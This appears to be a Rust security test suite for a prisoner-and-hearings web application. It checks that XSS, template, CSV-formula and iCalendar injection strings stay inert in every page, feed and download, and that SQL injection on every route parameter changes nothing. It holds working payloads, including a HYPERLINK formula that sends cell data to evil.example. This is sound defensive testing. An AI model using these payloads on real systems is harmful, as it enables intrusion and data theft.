//! Hostile input through every output, on both engines: a corpus of XSS,
//! template, formula and iCalendar-injection strings written into every text
//! field the generator fills (every record kind), then every public page,
//! feed and download and every staff page is read back. And SQL injection
//! attempts on every parameter of every route.

use std::collections::BTreeSet;

use axum::http::StatusCode;
use serde_json::Value;
use vigil_domain::{Record, RecordKind};
use vigil_storage::testing::TestStore;
use vigil_storage::{Actor, audit, on_both_engines};

use crate::common::*;

const CORPUS: &[&str] = &[
    "<script>alert('xss1')</script>",
    "\"><img src=x onerror=alert('xss2')>",
    "'><svg/onload=alert('xss3')>",
    "javascript:alert('xss4')",
    "</title></textarea><iframe src=//evil.example>",
    "{{7*7}} ${7*7} {% raw %}",
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "line one\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged event",
    "semi;colon,comma\\backslash",
    "\u{202e}evil\u{202c} right-to-left override",
    "' OR '1'='1'; DROP TABLE records; --",
];

/// Markup that would run, or load something, if it reached a page unescaped.
const ACTIVE: &[&str] = &[
    "<script>alert(",
    "<img src=x",
    "<svg/onload",
    "<iframe",
    "href=\"javascript:",
    "src=\"javascript:",
];

/// Keys whose values are codes, dates or identifiers, not text.
const NOT_TEXT: &[&str] = &["id", "type", "visibility", "script", "language", "sha256"];

/// Every string in `v` (by JSON pointer) that is not under a NOT_TEXT key.
fn text_paths(v: &Value, at: String, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            for (k, c) in m {
                if !NOT_TEXT.contains(&k.as_str()) {
                    text_paths(
                        c,
                        format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")),
                        out,
                    );
                }
            }
        }
        Value::Array(items) => {
            for (i, c) in items.iter().enumerate() {
                text_paths(c, format!("{at}/{i}"), out);
            }
        }
        Value::String(_) => out.push(at),
        _ => {}
    }
}

/// The record with every text field the rules allow replaced by a hostile string.
fn poisoned(record: &Record, n: &mut usize) -> Option<Record> {
    let mut v = serde_json::to_value(record).ok()?;
    let mut paths = Vec::new();
    text_paths(&v, String::new(), &mut paths);
    let mut changed = false;
    for p in paths {
        let mut candidate = v.clone();
        *candidate.pointer_mut(&p)? = Value::String(CORPUS[*n % CORPUS.len()].to_owned());
        if let Ok(r) = serde_json::from_value::<Record>(candidate.clone())
            && r.validate().is_ok()
        {
            v = candidate;
            *n += 1;
            changed = true;
        }
    }
    changed.then(|| serde_json::from_value(v).ok()).flatten()
}

fn inert(path: &str, body: &str) {
    for a in ACTIVE {
        if let Some(at) = body.find(a) {
            panic!(
                "{a:?} is live on {path}: {}",
                &body[at.saturating_sub(100)..(at + 100).min(body.len())]
            );
        }
    }
}

async fn hostile_text_is_inert_in_every_output(t: &TestStore) {
    vigil_app::generate::generate(&t.store, 40, 5, |_| {})
        .await
        .unwrap();
    let mut n = 0;
    let mut tx = t.store.begin().await.unwrap();
    for kind in RecordKind::ALL {
        for r in t.store.list(*kind).await.unwrap() {
            if let Some(p) = poisoned(&r, &mut n) {
                tx.update(&Actor::cli(), &p).await.unwrap();
            }
        }
    }
    tx.commit().await.unwrap();
    assert!(n > 200, "only {n} text fields took a hostile string");
    user(t, "admin1", vigil_domain::records::Role::Admin).await;
    let mut c = logged_in(t, "admin1").await;

    // Crawl the public site and the staff workspace from their front pages.
    let mut seen = BTreeSet::new();
    let mut queue: Vec<String> = [
        "/",
        "/prisoners?status=all",
        "/hearings",
        "/lists",
        "/staff",
        "/staff/records",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let mut escaped_seen = false;
    while let Some(path) = queue.pop() {
        if !seen.insert(path.clone()) || seen.len() > 600 {
            continue;
        }
        let r = c.get(&path).await;
        assert_ne!(r.status, StatusCode::INTERNAL_SERVER_ERROR, "{path}");
        // Feeds and downloads are not HTML (checked below, each by its own rules).
        let feed = [".ics", ".csv", ".json"]
            .iter()
            .any(|e| path.split('?').next().unwrap_or_default().ends_with(e));
        if !feed {
            inert(&path, &r.body);
        }
        escaped_seen |=
            r.body.contains("&lt;script&gt;alert(") || r.body.contains("&#60;script&#62;alert(");
        for l in links(&r.body) {
            let skip = l.starts_with("/static")
                || l.starts_with("/login")
                || l.contains("/edit")
                || l.contains("/form")
                || l.contains("/new");
            if !skip {
                queue.push(l);
            }
        }
    }
    assert!(seen.len() > 100, "the crawl reached {} pages", seen.len());
    assert!(escaped_seen, "the corpus was shown, escaped");
    assert!(seen.iter().any(|p| p.starts_with("/staff/records/")));

    // iCalendar: one event per hearing, and no text makes a property line of its own.
    for path in seen
        .iter()
        .filter(|p| p.ends_with(".ics"))
        .chain(["/hearings.ics".to_owned()].iter())
    {
        let ics = c.get(path).await.body;
        let unfolded = ics.replace("\r\n ", "");
        let forged: Vec<&str> = unfolded
            .lines()
            .filter(|l| {
                l.starts_with("SUMMARY:forged") || l.starts_with("END:VEVENT") && l.len() > 10
            })
            .collect();
        assert!(forged.is_empty(), "{path}: {forged:?}\n{unfolded}");
        let events = ical::IcalParser::new(ics.as_bytes())
            .next()
            .unwrap()
            .unwrap()
            .events;
        assert_eq!(
            events.len(),
            unfolded.lines().filter(|l| *l == "BEGIN:VEVENT").count(),
            "{path}"
        );
        assert!(!unfolded.contains("BEGIN:VEVENT\r\nSUMMARY:forged"));
    }

    // CSV: every cell that a spreadsheet would run as a formula is quoted as text.
    let csv = c.get("/prisoners.csv?status=all").await.body;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let mut cells = 0;
    for row in reader.records() {
        for cell in row.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}"
            );
        }
    }
    assert!(
        cells > 100 && csv.contains("'=HYPERLINK"),
        "the hostile names are in the CSV"
    );

    // JSON: parses, and carries the strings exactly.
    let json: Value =
        serde_json::from_str(&c.get("/prisoners.json?status=all").await.body).unwrap();
    let names: Vec<&str> = json["persons"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p["name"].as_str())
        .collect();
    assert!(names.iter().any(|n| CORPUS.contains(n)), "{names:?}");
}

/// Injection payloads on every parameter of every route: never a server
/// error, never an SQL message, and the store is unchanged and intact.
async fn sql_injection_changes_nothing(t: &TestStore) {
    vigil_app::demo::load(&t.store).await.unwrap();
    user(t, "admin1", vigil_domain::records::Role::Admin).await;
    let before = t.store.counts().await.unwrap();
    let mut c = logged_in(t, "admin1").await;
    let payloads = [
        "'",
        "\"",
        "' OR '1'='1",
        "1 OR 1=1",
        "1; DROP TABLE records; --",
        "' UNION SELECT body FROM records --",
        "1' AND SLEEP(5) AND '1'='1",
        "'; SELECT pg_sleep(5); --",
        "%00",
        "0192a000-0000-7000-8000-000000000000' OR '1'='1",
    ];
    let params = [
        "/prisoners?status=",
        "/prisoners?gender=",
        "/prisoners?occupation=",
        "/prisoners?facility=",
        "/prisoners?charge=",
        "/prisoners?year=",
        "/prisoners?list=",
        "/prisoners?page=",
        "/prisoners.csv?facility=",
        "/prisoners.json?list=",
        "/hearings?page=",
        "/search?q=",
        "/people/",
        "/lists/",
        "/staff/records?kind=",
        "/staff/records?q=",
        "/staff/records?page=",
        "/staff/search?q=",
        "/staff/records/",
        "/staff/lists/",
        "/staff/import/",
        "/?lang=",
    ];
    let mut tried = 0;
    for p in params {
        for payload in payloads {
            let path = format!("{p}{}", urlencode(payload));
            let r = c.get(&path).await;
            tried += 1;
            assert!(
                matches!(r.status.as_u16(), 200 | 303 | 400 | 404),
                "{path}: {}",
                r.status
            );
            let lower = r.body.to_lowercase();
            for leak in [
                "syntax error",
                "sqlite",
                "postgres",
                "sqlx",
                "near \"",
                "unterminated",
            ] {
                assert!(!lower.contains(leak), "{path} answers with {leak:?}");
            }
        }
    }
    assert_eq!(tried, params.len() * payloads.len());
    // A tautology finds what its words find: the quotes do nothing.
    let found = |body: &str| -> Vec<String> {
        links(body)
            .into_iter()
            .filter(|l| l.starts_with("/people/") || l.starts_with("/staff/records/"))
            .collect()
    };
    for q in ["/search?q=", "/staff/search?q="] {
        let tautology = found(&c.get(&format!("{q}%27+OR+%271%27%3D%271")).await.body);
        let words = found(&c.get(&format!("{q}OR+1+1")).await.body);
        assert_eq!(tautology, words, "{q}");
    }
    assert_eq!(t.store.counts().await.unwrap(), before);
    assert!(audit::verify(&t.store).await.unwrap().is_intact());
}

on_both_engines!(
    hostile_text_is_inert_in_every_output,
    sql_injection_changes_nothing
);

/// The router's routes that take a path parameter, with the methods each
/// answers: read from the router itself, so a route added later is tried too.
fn routes_with_parameters() -> Vec<(String, bool, bool)> {
    let source = include_str!("../../src/lib.rs");
    let mut out = Vec::new();
    for call in source.split(".route(").skip(1) {
        let Some(path) = call
            .trim_start()
            .strip_prefix('"')
            .and_then(|p| p.split('"').next())
        else {
            continue;
        };
        if path.contains('{') {
            // The methods are named before the next route (or the fallback).
            let body = call.split(".fallback(").next().unwrap_or(call);
            out.push((
                path.to_owned(),
                body.contains("get("),
                body.contains("post("),
            ));
        }
    }
    out
}

/// An unknown or malformed id, on every route that takes one and by every
/// method it answers, is "not found": never a server error, never a hint
/// of what exists.
async fn every_route_answers_not_found_for_a_bad_id(t: &TestStore) {
    vigil_app::demo::load(&t.store).await.unwrap();
    user(t, "admin1", vigil_domain::records::Role::Admin).await;
    let mut c = logged_in(t, "admin1").await;
    let csrf = Client::csrf_in(&c.get("/staff/import").await.body);
    let routes = routes_with_parameters();
    assert!(routes.len() >= 15, "the router was read: {routes:?}");
    let bad = [
        "0190f0f0-0000-7000-8000-000000000001",
        "not-an-id",
        "0190f0f0-0000-7000-8000",
        "%C3%A9",
        "..",
    ];
    let mut tried = 0;
    let mut wrong = Vec::new();
    for (route, get, post) in &routes {
        for id in bad {
            let mut path = String::new();
            for (i, piece) in route.split('{').enumerate() {
                match piece.split_once('}') {
                    Some((_, rest)) if i > 0 => {
                        path.push_str(id);
                        path.push_str(rest);
                    }
                    _ => path.push_str(piece),
                }
            }
            if *get {
                let r = c.get(&path).await;
                if r.status != StatusCode::NOT_FOUND {
                    wrong.push(format!("GET {path}: {}", r.status));
                }
                tried += 1;
            }
            if *post {
                let r = c.post(&path, &[("csrf", &csrf)]).await;
                if r.status != StatusCode::NOT_FOUND {
                    wrong.push(format!("POST {path}: {}", r.status));
                }
                tried += 1;
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(tried >= routes.len() * bad.len());
}

on_both_engines!(every_route_answers_not_found_for_a_bad_id);
